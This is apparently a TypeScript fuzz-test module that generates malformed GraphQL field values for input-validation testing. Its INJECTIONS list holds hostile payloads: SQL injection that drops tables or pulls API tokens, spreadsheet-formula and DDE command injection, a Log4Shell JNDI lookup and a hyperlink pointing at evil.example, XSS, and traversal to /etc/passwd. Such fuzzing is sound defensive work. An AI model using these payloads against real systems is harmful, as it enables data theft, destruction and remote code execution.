import fc from "fast-check";

/**
 * Values a client should never send where a field expects something else: the fuzz suite's alphabet.
 * Each is a plausible mistake or attack, not noise: wrong JSON types, text too long for any column,
 * control characters and lone surrogates, dates that do not exist, SQL and spreadsheet-formula injection,
 * integers beyond every range.
 */
export const HUGE_TEXT = "Nguyễn Văn A ".repeat(20_000); // 260,000 characters
export const LONE_SURROGATES = ["\ud800", "a\udc00b", "\udfff\ud800", "Mã\ud83d"];
export const CONTROL_CHARACTERS = ["\u0000", "a\u0000b", "\u0001\u0007\u001b", "\u007f\u0085", "line\nbreak\r\n", "\u2028\u2029", "\ufeff", "\ufffe\uffff"];
export const INVALID_DATES = [
  "2023-02-30",
  "2023-02-29T00:00:00Z",
  "2023-13-01T00:00:00Z",
  "2023-01-01T25:00:00Z",
  "2023-01-01T23:60:00Z",
  "0000-00-00",
  "0000-00-00T00:00:00Z",
  "99999-01-01T00:00:00Z",
  "+275760-09-13T00:00:00.001Z",
  "-001000-01-01T00:00:00Z",
  "2023-01-01T00:00:00+25:00",
  "31/02/2023",
  "1/1/2023",
  "2023-1-1",
  "yesterday",
  "",
  " ",
  "NaN",
  "Infinity",
];
export const INJECTIONS = [
  "'; DROP TABLE cases; --",
  "\" OR 1=1 --",
  "1; SELECT SLEEP(5)",
  "' UNION SELECT token FROM api_tokens --",
  "\\'; DELETE FROM units; --",
  "=HYPERLINK(\"http://evil.example\",\"Bấm\")",
  "+SUM(1,1)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "%s%s%s%n",
  "../../../../etc/passwd",
  "{{7*7}}",
];
export const HUGE_NUMBERS = [2 ** 31, 2 ** 53, 2 ** 53 + 2, -1, -(2 ** 63), 1e308, -1e308, 0.5, Number.MIN_VALUE];
export const NUMERIC_TEXT = ["99999999999999999999999", "1e400", "-0", "0x10", "NaN", "9".repeat(400), "1.5", "-1"];

/** Text that is wrong for a text field only in its content (length, characters, intent). */
export const badText: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(HUGE_TEXT),
  fc.constantFrom(...LONE_SURROGATES),
  fc.constantFrom(...CONTROL_CHARACTERS),
  fc.constantFrom(...INJECTIONS),
  fc.constantFrom(...NUMERIC_TEXT),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: fc.constantFrom("\u0000", "\u0008", "\u001f", "\ud800", "\udc00", "'", '"', ";", "\\", "ạ", "="), minLength: 1, maxLength: 30 }),
);

/** Anything but the type the field has. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.constantFrom(...HUGE_NUMBERS),
  fc.integer(),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.object({ maxDepth: 2, maxKeys: 3 }),
);

export const badDate: fc.Arbitrary<unknown> = fc.oneof(fc.constantFrom(...INVALID_DATES), badText, wrongType);

/** A malformed value for a field of this GraphQL type. */
export function badValueFor(type: "String" | "DateTime" | "Date" | "ID" | "Enum" | "Boolean" | "Int"): fc.Arbitrary<unknown> {
  switch (type) {
    case "DateTime":
    case "Date":
      return badDate;
    case "ID":
    case "Int":
      return fc.oneof(fc.constantFrom(...HUGE_NUMBERS), fc.constantFrom(...NUMERIC_TEXT), badText, wrongType);
    case "Enum":
      return fc.oneof(fc.constantFrom("admin", "ROOT", "", "HOLIDAY; DROP", "DEPARTMENT\u0000"), badText, wrongType);
    case "Boolean":
      return fc.oneof(fc.constantFrom("true", "yes", 1, 0), wrongType);
    default:
      return fc.oneof(badText, wrongType);
  }
}
